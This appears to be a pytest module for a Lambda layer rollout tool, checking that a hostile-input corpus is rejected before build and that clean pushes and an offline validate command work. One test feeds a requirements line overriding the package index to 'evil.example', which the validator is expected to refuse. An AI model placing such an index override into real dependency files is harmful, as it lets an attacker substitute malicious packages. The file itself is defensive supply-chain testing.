"""The hostile-input corpus (tests/hostile/cases.toml), pushed to an emulated account and run through the
ValidateRequest task's own code: every case is refused before anything is built, with a message that
names the offending line or field, and nothing is written. Also: clean pushes still pass, and
`layershift validate` runs the same checks offline."""

import io
import re
import tomllib
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Literal

import boto3
import pytest
from moto import mock_aws
from pydantic import BaseModel, ConfigDict, Field

from layershift.cli import main
from layershift_core import aws
from layershift_core.errors import LayershiftError
from layershift_core.models import RolloutRequest, RolloutState
from layershift_core.settings import Settings
from layershift_core.validation import spec_keys, validate_request

from .registry_table import create_registry_table

SETTINGS = Settings(bucket="artifacts-bucket", table="registry")
CORPUS = Path(__file__).resolve().parents[1] / "hostile" / "cases.toml"
CLEAN = b"six==1.16.0\n"
PLACE = re.compile(
    r"\bline \d+\b|^[a-z0-9_]+(\.[a-z0-9_]+|\[\d+\])*:|^layer name |^(requirements|config) key |^bucket "
)


class Case(BaseModel):
    model_config = ConfigDict(extra="forbid", frozen=True)

    name: str
    kind: Literal["requirements", "layer.toml", "layer name", "s3 key"]
    content: str = ""
    repeat: str = ""
    times: int = 0
    suffix: str = ""
    encoding: str = "utf-8"
    config: str | None = None
    layer: str | None = None
    bucket: str | None = None
    requirements_key: str | None = None
    config_key: str | None = None
    error: Literal["InvalidRequirements", "InvalidLayerSpec", "InvalidRequest"]
    expect: list[str] = Field(min_length=1)

    def text(self) -> str:
        return self.content + "".join(self.repeat.format(i=i) for i in range(self.times)) + self.suffix


CASES = [Case.model_validate(case) for case in tomllib.loads(CORPUS.read_text(encoding="utf-8"))["case"]]


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("app.py", "def handler(event, context):\n    return 1\n")
    return buffer.getvalue()


@pytest.fixture
def world() -> Iterator[None]:
    """The artifact bucket and registry, the alarm "orders-errors", and the function "orders" (alias
    "live") on layer "shared"."""
    with mock_aws():
        aws.client.cache_clear()
        s3 = boto3.client("s3")
        s3.create_bucket(Bucket=SETTINGS.bucket)
        s3.put_bucket_versioning(Bucket=SETTINGS.bucket, VersioningConfiguration={"Status": "Enabled"})
        create_registry_table(SETTINGS.table)
        boto3.client("cloudwatch").put_metric_alarm(
            AlarmName="orders-errors",
            Namespace="AWS/Lambda",
            MetricName="Errors",
            Statistic="Sum",
            Period=60,
            EvaluationPeriods=1,
            Threshold=1,
            ComparisonOperator="GreaterThanOrEqualToThreshold",
        )
        role = boto3.client("iam").create_role(RoleName="r", AssumeRolePolicyDocument="{}")["Role"]["Arn"]
        lam = boto3.client("lambda")
        shared = lam.publish_layer_version(LayerName="shared", Content={"ZipFile": _zip()})["LayerVersionArn"]
        lam.create_function(
            FunctionName="orders",
            Runtime="python3.13",
            Role=role,
            Handler="app.handler",
            Code={"ZipFile": _zip()},
            Layers=[shared],
            Tags={"layershift:layer": "shared"},
        )
        version = lam.publish_version(FunctionName="orders")["Version"]
        lam.create_alias(FunctionName="orders", Name="live", FunctionVersion=version)
        yield
        aws.client.cache_clear()


def _push(layer: str, requirements: bytes, config: bytes | None) -> RolloutRequest:
    """Upload the files as `layershift push` would, and the request the S3 trigger would make of it."""
    requirements_key, config_key = spec_keys(layer)
    s3 = aws.client("s3")
    requirements_version = s3.put_object(Bucket=SETTINGS.bucket, Key=requirements_key, Body=requirements)
    config_version = s3.put_object(Bucket=SETTINGS.bucket, Key=config_key, Body=config) if config is not None else {}
    return RolloutRequest(
        layer=layer,
        bucket=SETTINGS.bucket,
        requirements_key=requirements_key,
        requirements_version=requirements_version["VersionId"],
        config_key=config_key if config is not None else None,
        config_version=config_version.get("VersionId"),
    )


def _request(case: Case, index: int) -> RolloutRequest:
    if case.kind == "layer name":
        layer = case.text()
        return RolloutRequest(layer=layer, bucket=SETTINGS.bucket, requirements_key=spec_keys(layer)[0])
    body = case.text().encode(case.encoding)
    requirements = body if case.kind == "requirements" else CLEAN
    config = body if case.kind == "layer.toml" else case.config.encode() if case.config else None
    request = _push(case.layer or f"hostile-{index}", requirements, config)
    overrides = {"bucket": case.bucket, "requirements_key": case.requirements_key, "config_key": case.config_key}
    return request.model_copy(update={k: v for k, v in overrides.items() if v is not None})


def _written_layers() -> set[str]:
    """The layers validation wrote anything for: rollout records or build outputs in the bucket, registry items."""
    s3 = aws.client("s3")
    keys = [
        item["Key"]
        for prefix in ("rollouts/", "artifacts/")
        for item in s3.list_objects_v2(Bucket=SETTINGS.bucket, Prefix=prefix).get("Contents", [])
    ]
    items = aws.client("dynamodb").scan(TableName=SETTINGS.table)["Items"]
    return {key.split("/")[1] for key in keys} | {item["pk"]["S"].removeprefix("LAYER#") for item in items}


def _outcome(case: Case, index: int) -> tuple[str, str | None]:
    """The layer pushed to, and what is wrong with how validation treated the case (None: refused as it should be)."""
    request = _request(case, index)
    if not PLACE.search(case.expect[0]):
        return request.layer, f"its first expected fragment {case.expect[0]!r} names no line or field"
    try:
        validate_request(RolloutState(request=request), f"hostile-{index}-rollout", SETTINGS)
    except LayershiftError as exc:
        message, error = str(exc), type(exc).__name__
    else:
        return request.layer, "was accepted"
    if error != case.error:
        return request.layer, f"raised {error}, not {case.error}: {message}"
    missing = [fragment for fragment in case.expect if fragment not in message]
    return request.layer, f"message lacks {missing}: {message}" if missing else None


def test_every_hostile_input_is_rejected_before_build(
    world: None, record_property: Callable[[str, object], None]
) -> None:
    outcomes = [(case, *_outcome(case, index)) for index, case in enumerate(CASES)]
    written = _written_layers()
    problems = [
        f"{case.name}: {problem or 'was refused, but only after writing records'}"
        for case, layer, problem in outcomes
        if problem or layer in written
    ]
    record_property("summary", f"{len(CASES)} hostile inputs, {len(CASES) - len(problems)} rejected before build")
    assert not problems, "\n".join(problems)
    assert len(CASES) >= 60
    assert {case.kind for case in CASES} == {"requirements", "layer.toml", "layer name", "s3 key"}
    assert len({case.name for case in CASES}) == len(CASES)
    lam = boto3.client("lambda")
    assert [layer["LayerName"] for layer in lam.list_layers()["Layers"]] == ["shared"]
    alias = lam.get_alias(FunctionName="orders", Name="live")
    assert alias["FunctionVersion"] == "1" and not alias.get("RoutingConfig", {}).get("AdditionalVersionWeights")


def test_clean_pushes_still_validate_and_record_the_rollout(world: None) -> None:
    pushes = [
        ("first-push", CLEAN, None),
        ("shared", CLEAN, None),
        (
            "shared",
            b'six==1.16.0\nnumpy==2.1.3 ; platform_machine == "aarch64"\n',
            b'[build]\narchitectures = ["arm64"]\n',
        ),
        (
            "first-push",
            CLEAN,
            b'[targets]\nfunctions = ["orders"]\n[rollout]\nalarms = ["orders-errors"]\npilots = ["orders"]\n',
        ),
    ]
    for index, (layer, requirements, config) in enumerate(pushes):
        state = validate_request(RolloutState(request=_push(layer, requirements, config)), f"clean-{index}", SETTINGS)
        assert state.rollout is not None and state.rollout.layer == layer
        aws.client("s3").head_object(Bucket=SETTINGS.bucket, Key=f"rollouts/{layer}/clean-{index}/spec.json")


def test_validate_command_runs_the_same_checks_offline(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_aws(*args: object, **kwargs: object) -> None:
        raise AssertionError("layershift validate must not call AWS")

    aws.client.cache_clear()
    monkeypatch.setattr(boto3, "client", no_aws)
    requirements = tmp_path / "requirements.txt"
    requirements.write_text("six==1.16.0\nRequests==2.32.3\n")
    config = tmp_path / "layer.toml"
    config.write_text("[rollout]\nsteps = [{weight = 10, bake_seconds = 60}, {weight = 50, bake_seconds = 120}]\n")

    assert main(["validate", str(requirements), "--config", str(config), "--layer", "api"]) == 0
    out = capsys.readouterr().out
    assert out == (
        f"{requirements}: OK, 2 requirement(s), builds for the runtimes and architectures of the layer's "
        "functions, steps 10% for 60s, 50% for 120s, 100%\n"
    )
    config.write_text('[build]\nruntimes = ["python3.12", "python3.13"]\narchitectures = ["arm64"]\n')
    assert main(["validate", str(requirements), "--config", str(config), "--layer", "api"]) == 0
    out = capsys.readouterr().out
    assert "builds for python3.12/arm64 (build key " in out and ", python3.13/arm64 (build key " in out

    requirements.write_text("six==1.16.0\nrequests==2.32.3 --index-url https://evil.example/simple\n")
    assert main(["validate", str(requirements)]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f'layershift: {requirements} line 2: "requests==2.32.3 --index-url https://evil.example')
    assert "overrides the package index (--index-url)" in err

    requirements.write_text("six==1.16.0\n")
    config.write_text("[rollout]\npoll_seconds = 0\n")
    assert main(["validate", str(requirements), "--config", str(config)]) == 1
    assert capsys.readouterr().err.startswith(f"layershift: {config}: rollout.poll_seconds: ")

    assert main(["validate", str(requirements), "--layer", "a/b"]) == 1
    assert capsys.readouterr().err.startswith("layershift: layer name 'a/b' is not valid")
